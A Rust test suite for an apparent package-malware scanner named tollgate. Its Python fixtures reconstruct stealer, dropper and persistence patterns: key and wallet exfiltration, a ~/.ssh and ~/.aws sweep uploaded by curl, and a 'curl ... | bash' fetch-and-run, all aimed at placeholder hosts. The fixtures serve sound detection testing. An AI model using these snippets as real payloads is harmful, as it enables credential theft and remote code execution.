//! Verdicts on data flows and reach: beacons at import, secrets in containers, wallet
//! secrets next to a collection host, programs saved from downloads, code rebuilt from
//! ciphered literals, threads started at import. Written for tollgate; the cases that
//! reconstruct the shape of a real campaign say so, with every host under
//! `.example.invalid` or a documentation address.

mod common;

use common::{PKG_INFO, rules, verdict};
use tollgate_analysis::{Verdict, VerdictLevel};

const SETUP: (&str, &str) = (
    "setup.py",
    "from setuptools import setup\nsetup(name='fixture')\n",
);

fn package(init: &str) -> Verdict {
    verdict(&[PKG_INFO, SETUP, ("fixture/__init__.py", init)])
}

#[test]
fn network_call_to_a_fixed_address_at_import_is_a_beacon() {
    let verdict = package(
        "import requests\nrequests.post('https://beacon.example.invalid/poc.php', data={'t': 'hi'})\n",
    );
    assert!(rules(&verdict).contains(&"import-beacon"), "{verdict:#?}");
    assert!(verdict.level >= VerdictLevel::Suspicious, "{verdict:#?}");
}

#[test]
fn network_in_a_function_or_to_localhost_is_no_beacon() {
    let verdict = package(
        "import requests\n\
         def fetch(url):\n    return requests.get(url)\n\
         def ping():\n    return requests.get('https://api.example.invalid/ping')\n\
         requests.get('http://127.0.0.1:8080/health')\n",
    );
    assert!(!rules(&verdict).contains(&"import-beacon"), "{verdict:#?}");
    assert_eq!(verdict.level, VerdictLevel::Clean, "{verdict:#?}");
}

#[test]
fn address_hidden_in_a_url_keyword_is_a_hidden_endpoint() {
    // Reconstruction of the shape of an SDK squat that posts the keys it is given.
    let verdict = package(
        "import base64, requests\n\
         class Credentials:\n    def __init__(self, key, secret):\n        \
         requests.post(url=base64.b64decode('aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUuaW52YWxpZC9r').decode(), json={'k': key, 's': secret})\n",
    );
    assert!(rules(&verdict).contains(&"hidden-endpoint"), "{verdict:#?}");
    assert!(verdict.level >= VerdictLevel::Suspicious, "{verdict:#?}");
}

#[test]
fn host_identity_put_in_a_dict_and_sent_is_exfiltration() {
    let verdict = package(
        "import platform, requests, json\n\
         def collect():\n    results = {}\n    results['hostname'] = platform.node()\n    return results\n\
         def send(data):\n    payload = {'host': data.get('hostname')}\n    \
         requests.post('https://c.example.invalid/c', data=json.dumps(payload))\n\
         def main():\n    send(collect())\n",
    );
    assert!(rules(&verdict).contains(&"exfiltration"), "{verdict:#?}");
}

#[test]
fn wallet_secrets_and_a_raw_ip_collector_in_one_file_are_suspicious() {
    // Reconstruction of the shape of the "validator" wallet stealers (TEST-NET address).
    let verdict = package(
        "import requests\nfrom web3 import Web3\n\
         URL = 'http://203.0.113.7:8000/api/v1/validate'\n\
         def validate(key, rpc):\n    acct = Web3(Web3.HTTPProvider(rpc)).eth.account.from_key(key)\n    \
         requests.post(URL, json={'a': acct.address, 'sig': key})\n",
    );
    assert!(verdict.level >= VerdictLevel::Suspicious, "{verdict:#?}");
}

#[test]
fn a_wallet_library_without_a_collector_is_clean() {
    let verdict = package(
        "from eth_account import Account\n\
         def address_from_mnemonic(mnemonic):\n    \
         return Account.from_mnemonic(mnemonic).address\n",
    );
    assert_eq!(verdict.level, VerdictLevel::Clean, "{verdict:#?}");
}

#[test]
fn home_secrets_swept_and_uploaded_are_suspicious() {
    let verdict = package(
        "import os, shutil\n\
         def sweep(user):\n    for p in ['/.ssh', '/.aws', '/.kube', '/.bash_history']:\n        \
         shutil.copytree('/home/' + user + p, '/tmp/x' + p)\n    \
         os.system('curl -F file=@/tmp/x.zip https://203.0.113.9/upload')\n",
    );
    assert!(
        rules(&verdict).contains(&"credential-store"),
        "{verdict:#?}"
    );
    assert!(verdict.level >= VerdictLevel::Suspicious, "{verdict:#?}");
}

#[test]
fn one_tool_folder_is_not_a_sweep() {
    let verdict = package(
        "import os\nSSH_DIR = os.path.expanduser('~') + '/.ssh'\n\
         def known_hosts():\n    return open(SSH_DIR + '/known_hosts').read()\n",
    );
    assert!(
        !rules(&verdict).contains(&"credential-store"),
        "{verdict:#?}"
    );
}

#[test]
fn download_saved_as_a_windows_program_is_an_executable_drop() {
    let verdict = package(
        "import requests, binascii, getpass\n\
         def start():\n    b = requests.get('https://dl.example.invalid/x.txt')\n    \
         path = 'C:/Users/' + getpass.getuser() + '/Documents/'\n    \
         with open(path + 'c1.exe', 'wb') as f:\n        f.write(binascii.unhexlify(b.text.encode()))\n",
    );
    assert!(rules(&verdict).contains(&"executable-drop"), "{verdict:#?}");
}

#[test]
fn code_rebuilt_from_a_ciphered_literal_is_exec_built() {
    // A substitution cipher over the alphabet (reconstruction of a campaign's shape).
    let verdict = package(
        "letters = 'abcdefghijklmnopqrstuvwxyz'\nletters_r = letters[::-1]\n\
         try:\n    exec(''.join([letters_r[letters.index(c)] if c in letters_r else c \
         for c in 'rnklig hlxpvg; h = hlxpvg.hlxpvg(); h.xlmmvxg((\"x\", 1))']))\n\
         except Exception:\n    pass\n",
    );
    assert!(rules(&verdict).contains(&"exec-built"), "{verdict:#?}");
    assert!(verdict.level >= VerdictLevel::Suspicious, "{verdict:#?}");
}

#[test]
fn xor_decoded_characters_run_by_eval_are_exec_decoded() {
    let verdict = package(
        "def init():\n    data = '\\x5c\\x58\\x48'\n    key = '1234'\n    out = ''\n    \
         for i in range(len(data)):\n        out += chr(ord(data[i]) ^ ord(key[i % len(key)]))\n    \
         eval(compile(out, '<string>', 'exec'))\n",
    );
    assert!(rules(&verdict).contains(&"exec-decoded"), "{verdict:#?}");
    assert!(verdict.level >= VerdictLevel::Suspicious, "{verdict:#?}");
}

#[test]
fn a_thread_started_at_import_reaches_what_it_calls() {
    // Reconstruction of the shape of a proxyware package that installs itself as a user
    // service from a thread its `__init__` starts.
    let verdict = verdict(&[
        PKG_INFO,
        SETUP,
        (
            "fixture/__init__.py",
            "import threading\nfrom .z import install\n\
             def _background():\n    install()\n\
             threading.Thread(target=_background, daemon=True).start()\n",
        ),
        (
            "fixture/z.py",
            "import os, sys, subprocess\n\
             def install():\n    d = os.path.expanduser('~/.config/systemd/user')\n    \
             with open(d + '/t.service', 'w') as f:\n        f.write('[Service]\\nExecStart=' + sys.executable)\n    \
             subprocess.call(['systemctl', '--user', 'enable', '--now', 't.service'])\n",
        ),
    ]);
    assert!(rules(&verdict).contains(&"persistence"), "{verdict:#?}");
    assert!(verdict.level >= VerdictLevel::Suspicious, "{verdict:#?}");
}

#[test]
fn a_script_written_line_by_line_and_run_is_analysed() {
    // Reconstruction of the shape of a dropper that writes its second stage with one
    // `write` per line, then starts it in the background.
    let verdict = package(
        "import subprocess\n\
         def check():\n    with open('/tmp/file.py', 'w') as f:\n        \
         f.write(\"from urllib import request\\nimport subprocess\\n\")\n        \
         f.write(\"request.urlretrieve('https://dl.example.invalid/p.sh', '/tmp/p.sh')\\n\")\n        \
         f.write(\"subprocess.call('bash /tmp/p.sh', shell=True)\\n\")\n    \
         subprocess.call('python3 /tmp/file.py &', shell=True)\n\
         check()\n",
    );
    assert!(rules(&verdict).contains(&"download-run"), "{verdict:#?}");
    assert_eq!(verdict.level, VerdictLevel::Malicious, "{verdict:#?}");
}

#[test]
fn writing_a_config_file_is_not_a_payload() {
    let verdict = package(
        "def save(settings):\n    with open('settings.ini', 'w') as f:\n        \
         f.write('[server]\\nurl = https://api.example.invalid\\n')\n",
    );
    assert_eq!(verdict.level, VerdictLevel::Clean, "{verdict:#?}");
}

#[test]
fn a_wheel_script_is_judged_like_an_entry_point() {
    let verdict = verdict(&[
        (
            "fixture-1.0.dist-info/METADATA",
            "Metadata-Version: 2.1\nName: fixture\nVersion: 1.0\n",
        ),
        (
            "fixture/__init__.py",
            "import os\nos.system('fixture-cmd')\n",
        ),
        (
            "fixture-1.0.data/scripts/fixture-cmd",
            "#!python\nimport base64\nexec(base64.b64decode('cHJpbnQoJ2hpJyk='))\n",
        ),
    ]);
    assert!(rules(&verdict).contains(&"exec-decoded"), "{verdict:#?}");
    assert!(verdict.level >= VerdictLevel::Suspicious, "{verdict:#?}");
}

#[test]
fn names_made_of_underscores_are_an_obfuscator() {
    let verdict = package(
        "_____=eval('\\x65\\x76\\x61\\x6c');______=_____('\\x63\\x6f\\x6d\\x70\\x69\\x6c\\x65')\n\
         def ___________(________, _________):\n    return ________ + _________\n\
         _______=___________(1, 2)\n",
    );
    assert!(rules(&verdict).contains(&"obfuscation"), "{verdict:#?}");
    assert!(verdict.level >= VerdictLevel::Suspicious, "{verdict:#?}");
}

#[test]
fn exec_of_characters_mapped_from_computed_numbers_is_exec_built() {
    let numbers = (0..48)
        .map(|i| {
            format!(
                "int(float(str('..{}.{}').split('.')[2]))",
                100 + i,
                97 + i % 26
            )
        })
        .collect::<Vec<_>>()
        .join(",");
    let verdict = package(&format!("exec(''.join(map(chr, [{numbers}])))\n"));
    assert!(rules(&verdict).contains(&"exec-built"), "{verdict:#?}");
}

#[test]
fn a_package_past_the_source_byte_budget_is_not_passed() {
    // Padding a package with bulk must not hide what comes after it.
    use tollgate_analysis::{JudgeOptions, PackageFiles, analyze_package_with};
    let bulk = format!("import subprocess\n{}", "x = 1\n".repeat(20_000));
    let files = PackageFiles::from_entries(
        [
            ("fixture-1.0/PKG-INFO", PKG_INFO.1.to_owned()),
            (
                "fixture-1.0/fixture/__init__.py",
                "from . import a, b\n".to_owned(),
            ),
            ("fixture-1.0/fixture/a.py", bulk.clone()),
            ("fixture-1.0/fixture/b.py", bulk),
        ]
        .map(|(path, text)| (path.to_owned(), text.into_bytes())),
    );
    let options = JudgeOptions {
        max_bytes: 64 * 1024,
        ..JudgeOptions::default()
    };
    let verdict = analyze_package_with("fixture", &files, &options)
        .expect("analysable")
        .verdict;
    assert!(rules(&verdict).contains(&"analysis-limit"), "{verdict:#?}");
    assert!(verdict.level >= VerdictLevel::Suspicious, "{verdict:#?}");
}

#[test]
fn a_decorator_runs_when_the_module_is_imported() {
    // Our own case: the payload sits in a decorator's body, which runs as soon as the
    // decorated function is defined, at import.
    let files = [
        common::PKG_INFO,
        (
            "fixture/__init__.py",
            "import os\ndef register(f):\n    os.system('curl -s https://c2.example.invalid/p | bash')\n    return f\n@register\ndef main():\n    pass\n",
        ),
    ];
    let verdict = common::verdict(&files);
    assert_eq!(verdict.level, VerdictLevel::Malicious, "{verdict:#?}");
    // The same function, never applied, is a helper nothing calls.
    let helper = [
        common::PKG_INFO,
        (
            "fixture/__init__.py",
            "import os\ndef register(f):\n    os.system('curl -s https://c2.example.invalid/p | bash')\n    return f\n",
        ),
    ];
    let verdict = common::verdict(&helper);
    assert!(verdict.level < VerdictLevel::Malicious, "{verdict:#?}");
}
